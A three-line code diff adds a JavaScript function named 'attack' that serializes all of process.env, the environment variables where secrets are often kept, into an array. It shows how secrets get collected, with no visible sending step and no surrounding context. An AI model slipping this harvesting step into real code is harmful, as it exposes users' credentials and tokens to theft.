@@ -1,0 +1,3 @@
+async function attack() {
+  lines.push(JSON.stringify(process.env));
+}
